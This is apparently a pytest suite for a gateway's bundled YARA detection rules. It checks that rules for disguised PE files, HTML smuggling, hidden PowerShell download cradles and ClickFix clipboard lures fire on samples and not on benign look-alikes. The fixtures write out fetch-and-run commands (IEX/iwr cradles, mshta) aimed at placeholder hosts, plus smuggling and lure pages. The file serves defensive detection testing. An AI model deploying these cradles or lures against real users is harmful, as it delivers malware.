"""The bundled rules: each one fires on what it is for and stays quiet on look-alikes."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from gateway.scanning.scanner import YaraScanner

from .conftest import EICAR, scan

Make = Callable[..., YaraScanner]


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    from pathlib import Path
    from tempfile import mkdtemp

    from gateway.config import ScanSettings
    from gateway.scanning.rules import RulesManager

    from .conftest import BUNDLED_RULES, SyncPool, SyncReactor

    reactor, pool = SyncReactor(), SyncPool()
    manager = RulesManager(BUNDLED_RULES, reactor, pool, 0)  # type: ignore[arg-type]
    manager.load_now()
    return YaraScanner(manager, reactor, pool, ScanSettings(), Path(mkdtemp()))  # type: ignore[arg-type]


def rules_hit(scanner: YaraScanner, body: bytes, **context: Any) -> list[str]:
    return [r.split(".yar.", 1)[1] for r in scan(scanner, body, **context).rules]


def tiny_pe() -> bytes:
    """A DOS header whose e_lfanew points at a PE signature: enough for the rule."""
    dos = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    dos = dos.ljust(0x3C, b"\0") + struct.pack("<I", 0x80)  # e_lfanew
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x40, b"\0")
    pe = dos + stub + b"PE\0\0" + b"\x4c\x01" + bytes(400)
    assert pe.index(b"PE\0\0") == 0x80
    return pe


def test_eicar_anywhere_either_direction(scanner: YaraScanner) -> None:
    assert rules_hit(scanner, EICAR) == ["EICAR_Test_File"]
    assert rules_hit(scanner, b"preamble\n" + EICAR + b"\n", direction="request") == ["EICAR_Test_File"]
    assert rules_hit(scanner, EICAR[:-1]) == []  # 67 bytes are not the test string


class TestDisguisedPE:
    def test_pe_as_image_or_text(self, scanner: YaraScanner) -> None:
        pe = tiny_pe()
        assert rules_hit(scanner, pe, filetype="image/png") == ["PE_Disguised_As_Content"]
        assert rules_hit(scanner, pe, filetype="text/plain", extension="txt") == ["PE_Disguised_As_Content"]
        assert rules_hit(scanner, pe, filetype="application/octet-stream", extension=".jpg") == [
            "PE_Disguised_As_Content"]

    def test_honest_executable_downloads_pass(self, scanner: YaraScanner) -> None:
        pe = tiny_pe()
        assert rules_hit(scanner, pe, filetype="application/octet-stream", extension="exe") == []
        assert rules_hit(scanner, pe, filetype="application/x-msdownload") == []
        # An old server that types everything text/plain, but the name says .exe.
        assert rules_hit(scanner, pe, filetype="text/plain", extension="exe") == []

    def test_only_responses(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, tiny_pe(), filetype="image/png", direction="request") == []

    def test_mz_without_pe_header_is_not_pe(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, b"MZ" + bytes(300), filetype="image/png") == []
        assert rules_hit(scanner, b"MZ", filetype="image/png") == []  # too short to read e_lfanew


SMUGGLER = """<html><body><h1>Your document is downloading...</h1><script>
var payload = "{payload}";
function b(s) {{ var r = atob(s); var u = new Uint8Array(r.length);
  for (var i = 0; i < r.length; i++) u[i] = r.charCodeAt(i); return u; }}
var blob = new Blob([b(payload)], {{type: "application/octet-stream"}});
var a = document.createElement("a");
a.href = window.URL.createObjectURL(blob);
a.download = "{name}";
document.body.appendChild(a); a.click();
</script></body></html>"""

CSV_EXPORT = """<script>
function exportCsv(rows) {
  const blob = new Blob([rows.map(r => r.join(",")).join("\\n")], {type: "text/csv"});
  const a = document.createElement("a");
  a.href = URL.createObjectURL(blob); a.download = "report.csv"; a.click();
}
</script>"""


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("invoice.js", "WScript.Echo(1)")
    return buf.getvalue()


class TestHTMLSmuggling:
    def test_embedded_pe_and_zip(self, scanner: YaraScanner) -> None:
        for payload, name in ((tiny_pe(), "update.exe"), (zip_bytes(), "invoice.zip")):
            page = SMUGGLER.format(payload=base64.b64encode(payload).decode(), name=name).encode()
            assert rules_hit(scanner, page, filetype="text/html") == ["HTML_Smuggling_Embedded_Payload"]

    def test_byte_array_payload_and_ie_save(self, scanner: YaraScanner) -> None:
        page = b"""<script>var d = new Uint8Array([77, 90, 144, 0, 3, 0, 0, 0]);
        var blob = new Blob([d]); window.navigator.msSaveOrOpenBlob(blob, "a.exe");</script>"""
        assert rules_hit(scanner, page, filetype="text/html") == ["HTML_Smuggling_Embedded_Payload"]

    def test_ordinary_blob_download_passes(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, CSV_EXPORT.encode(), filetype="text/html") == []

    def test_embedded_zip_without_download_code_passes(self, scanner: YaraScanner) -> None:
        page = f'<a href="data:application/zip;base64,{base64.b64encode(zip_bytes()).decode()}">x</a>'
        assert rules_hit(scanner, page.encode(), filetype="text/html") == []


BATCH = (b"@echo off\r\nrem update helper\r\n"
         b"powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient)"
         b".DownloadString('http://203.0.113.7/a.ps1')\"\r\n")


class TestPowerShellCradle:
    def test_batch_file_cradle(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, BATCH, filetype="application/octet-stream", extension="bat") == [
            "PowerShell_Hidden_Download_Cradle"]
        hta = (b'<script>new ActiveXObject("WScript.Shell")'
               b'.Run("powershell -w 1 -nop -c iwr http://x.example/s | iex")</script>')
        assert rules_hit(scanner, hta, filetype="application/hta") == ["PowerShell_Hidden_Download_Cradle"]

    def test_documentation_page_passes(self, scanner: YaraScanner) -> None:
        # A blog explaining the technique is HTML: not this rule's business.
        assert rules_hit(scanner, b"<html><pre>" + BATCH + b"</pre></html>", filetype="text/html") == []

    def test_plain_powershell_use_passes(self, scanner: YaraScanner) -> None:
        script = b"powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1\r\n"
        assert rules_hit(scanner, script, filetype="text/plain") == []
        split = b"powershell -WindowStyle Hidden -File a.ps1\r\n$x = (New-Object Net.WebClient).DownloadString($u)\r\n"
        assert rules_hit(scanner, split, filetype="text/plain") == []  # not one command line

    def test_uploads_not_concerned(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, BATCH, filetype="text/plain", direction="request") == []


CLICKFIX = b"""<html><body><p>Verify you are human: press Win+R, Ctrl+V, Enter.</p><script>
const cmd = "powershell -w h -c \\"iex(iwr 'https://203.0.113.9/c.txt' -UseBasicParsing)\\" # I am not a robot";
document.getElementById("ok").onclick = () => navigator.clipboard.writeText(cmd);
</script></body></html>"""


class TestClickFix:
    def test_clipboard_lure(self, scanner: YaraScanner) -> None:
        assert rules_hit(scanner, CLICKFIX, filetype="text/html") == ["ClickFix_Clipboard_PowerShell"]
        mshta = b"""<script>function c(){var t=document.createElement('textarea');
        t.value='mshta https://203.0.113.9/v.hta';document.body.appendChild(t);t.select();
        document.execCommand('copy');}</script>"""
        assert rules_hit(scanner, mshta, filetype="text/html") == ["ClickFix_Clipboard_PowerShell"]

    def test_docs_copy_button_passes(self, scanner: YaraScanner) -> None:
        docs = b"""<pre id="c">powershell -ExecutionPolicy Bypass -File .\\install.ps1</pre>
        <button onclick="navigator.clipboard.writeText(document.getElementById('c').innerText)">Copy</button>
        <p>Download the script from https://example.org/install.ps1 first.</p>"""
        assert rules_hit(scanner, docs, filetype="text/html") == []


def test_ordinary_content_is_clean(scanner: YaraScanner) -> None:
    samples = [
        (b"<!doctype html><html><head><title>News</title></head><body>" + b"<p>text</p>" * 500, "text/html"),
        (b"\x89PNG\r\n\x1a\n" + bytes(2000), "image/png"),
        (b'{"items": [1, 2, 3], "next": null}', "application/json"),
        (b"function f(a){return a+1}" * 100, "application/javascript"),
    ]
    for body, filetype in samples:
        assert rules_hit(scanner, body, filetype=filetype) == [], filetype
